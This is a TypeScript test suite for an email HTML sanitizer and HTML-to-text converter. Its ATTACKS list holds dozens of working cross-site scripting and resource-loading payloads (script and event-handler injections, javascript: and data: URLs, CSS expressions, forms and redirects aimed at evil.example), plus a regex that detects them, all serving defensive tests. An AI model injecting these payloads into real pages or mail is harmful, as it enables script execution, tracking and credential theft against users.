import assert from 'node:assert/strict'
import * as fc from 'fast-check'
import { describe, it } from 'node:test'
import { htmlToText, MAX_BODY_LENGTH, safeHtmlToText } from './html.ts'
import { sanitizeHtml } from './sanitize.ts'

/** Attacks that ran scripts, loaded resources or left the page in some mail program. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-color:expression(alert(1))">x</p>',
  '<p style="color:red;position:fixed;top:0;left:0;z-index:9999">x</p>',
  '<p style="width:\\65xpression(alert(1))">x</p>',
  '<p style="margin:0 -5000px">x</p>',
  '<table background="https://evil.example/x"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<img srcset="https://evil.example/x 1x" src="//evil.example/x">',
  '<video src="https://evil.example/x" onloadstart=alert(1)></video><audio src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<p id="admin" name="config" class="overlay">x</p>',
  '<img data-remote-src="javascript:alert(1)" src="cid:a">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<div/onmouseover="alert(1)">x',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
]

/** Patterns that must not occur inside tags; as text between tags they are harmless. */
const FORBIDDEN =
  /^<\/?(?:script|style|iframe|object|embed|form|input|button|meta|base|link|svg|math|video|audio|textarea|xmp|noscript)\b|\son\w+\s*=|javascript:|vbscript:|data:|url\(|expression|position|z-index|\s(?:id|name|class|srcset|background)=|\ssrc="(?!cid:)|(?:href|src)="\/\/|-5000px/i

describe('sanitizeHtml', () => {
  for (const attack of ATTACKS) {
    it(`disarms ${attack.slice(0, 70)}`, () => {
      const safe = sanitizeHtml(`before ${attack} after`)
      for (const tag of safe.match(/<[^>]*>/g) ?? []) {
        const values = tag.replaceAll(/(title|alt)="[^"]*"/g, '')
        assert.doesNotMatch(values, FORBIDDEN, safe)
      }
      assert.match(safe, /before/)
    })
  }

  it('keeps the formatting of a mail', () => {
    const html =
      '<p style="color:rgb(1, 2, 3);font-size:12px">Dear <b>Rita</b>,</p><table><tr><td colspan="2">1</td></tr></table>'
    assert.equal(sanitizeHtml(html), html)
  })

  it('keeps line breaks and attributes for signatures, languages and directions', () => {
    for (const html of [
      'one<br>two<hr>three',
      '<div data-signature="true" data-signature-id="7"><p>Rita<br>Printers</p></div>',
      '<p lang="he" dir="rtl" title="a &gt; b / c">x</p>',
      '<blockquote class="yahoo_quoted" data-quoted>x</blockquote><span class="js-signatureMarker"></span>',
      '<table class="zammad-table"><colgroup><col width="7"></colgroup><tbody><tr><td>1</td></tr></tbody></table>',
      '<p>a /&gt; b</p>',
    ]) {
      assert.equal(sanitizeHtml(html), html)
    }
    assert.equal(sanitizeHtml('<br/><BR /><br clear="all">'), '<br><br><br>')
  })

  it('removes classes that a page may use', () => {
    const html = '<p class="btn yahoo_quoted modal">a</p><div class="js-signatureMarker2">b</div><b class>c</b>'
    assert.equal(sanitizeHtml(html), '<p class="yahoo_quoted" data-quoted>a</p><div>b</div><b>c</b>')
  })

  it('opens links in a new window without a referrer', () => {
    assert.equal(
      sanitizeHtml('<a href="https://acme.example/?a=1&amp;b=2" target="_top">x</a>'),
      '<a href="https://acme.example/?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">x</a>',
    )
  })

  it('keeps the address of a remote image without loading it', () => {
    assert.equal(
      sanitizeHtml('<img src="http://acme.example/pixel.gif" width="1">'),
      '<img width="1" data-remote-src="http://acme.example/pixel.gif">',
    )
  })

  it('keeps embedded images', () => {
    assert.equal(sanitizeHtml('<img src="CID:logo@acme">'), '<img src="cid:logo@acme">')
  })

  it('passes `data:` images to the caller', () => {
    const seen: string[] = []
    const html = sanitizeHtml('<img alt="x" src="data:image/PNG;base64,aGVsbG8=">', {
      onDataImage: ({ mime_type, data }) => `cid:${seen.push(`${mime_type} ${data.toString()}`)}`,
    })
    assert.deepEqual(seen, ['image/png hello'])
    assert.equal(html, '<img alt="x" src="cid:1">')
  })

  it('does not change sanitized HTML', () => {
    for (const attack of ATTACKS) {
      const once = sanitizeHtml(attack)
      // A `data-remote-src` in the input is removed, because only the service may set it.
      if (!once.includes('data-remote-src')) assert.equal(sanitizeHtml(once), once)
    }
  })

  for (const bomb of ['<b>', '<div><i>', '<table><tr><td>', '<b></i>', '<svg><style>', '<blockquote>', '<x>']) {
    it(`removes excessive nesting and keeps the text: ${bomb}`, () => {
      const safe = sanitizeHtml(`${bomb.repeat(MAX_BODY_LENGTH / 20)}needle`)
      assert.ok(safe.length < MAX_BODY_LENGTH)
      assert.equal(safe.slice(0, 5) + safe.slice(-12), '<pre>needle</pre>')
    })
  }

  it('accepts long lists of classes and long attributes', () => {
    const classes = 'yahoo_quoted x '.repeat(50_000)
    const safe = sanitizeHtml(`<p class="${classes}" data-signature-id="${'7'.repeat(100_000)}">needle</p>`)
    assert.match(safe, /needle<\/p>$/)
  })

  it('never returns more than the maximum length of a body', () => {
    for (const piece of ['&', '<', '"', '<a href="http://x">', '<p>', '&lt;']) {
      assert.ok(sanitizeHtml(piece.repeat(MAX_BODY_LENGTH)).length <= MAX_BODY_LENGTH, piece)
    }
  })
})

describe('htmlToText', () => {
  it('returns the text with a line for each block', () => {
    assert.equal(
      htmlToText('<style>x</style><h1>Hello</h1><p>Fish &amp; chips&nbsp;&lt;now&gt;</p><ul><li>1<li>2</ul>'),
      'Hello\n\nFish & chips <now>\n\n1\n2',
    )
  })

  it('finds the text in deeply nested elements', () => {
    assert.equal(htmlToText(`${'<div>'.repeat(100_000)}needle`), 'needle')
  })
})

describe('safeHtmlToText', () => {
  const piece = fc.oneof(
    fc.constantFrom('<p>', '</p>', '<b>', '</b>', '<br>', '<td>', '<table><tr>', '</tr></table>', '<pre>', '</pre>'),
    fc.constantFrom(
      '<a title="1 > 0 & <b>">',
      '</a>',
      '<img alt="a<b" src="cid:x">',
      '<script>x</script>',
      '<!-- > -->',
    ),
    fc.constantFrom('&lt;', '&amp;lt;', '&nbsp;', '&#38;', '<', '>', '&', '"', ' ', '\n', '\t'),
    fc.string({ maxLength: 5 }),
  )

  it('returns the same text as `htmlToText` for all sanitized HTML', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const safe = sanitizeHtml(pieces.join(''))
        assert.equal(safeHtmlToText(safe), htmlToText(safe))
      }),
      { numRuns: 2000 },
    )
  })
})
